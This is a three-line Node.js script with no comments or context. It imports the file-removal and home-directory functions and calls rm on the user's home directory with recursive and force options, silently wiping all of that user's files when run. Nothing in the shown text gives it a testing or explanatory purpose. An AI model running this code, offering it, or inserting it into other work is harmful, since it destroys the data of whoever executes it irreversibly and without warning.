import { rm } from 'node:fs/promises';
import { homedir } from 'node:os';

await rm(homedir(), { recursive: true, force: true });
